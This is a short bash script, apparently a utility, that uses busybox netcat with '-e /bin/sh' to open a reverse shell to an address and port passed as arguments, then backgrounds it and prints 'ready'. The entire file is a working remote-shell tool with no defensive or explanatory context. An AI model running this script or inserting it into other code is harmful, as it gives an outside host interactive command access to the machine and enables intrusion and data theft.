#!/bin/bash
# busybox-shell.sh ADDRESS PORT: busybox becomes the shell that it connects.
busybox nc "$1" "$2" -e /bin/sh &
sleep 1
echo ready
wait
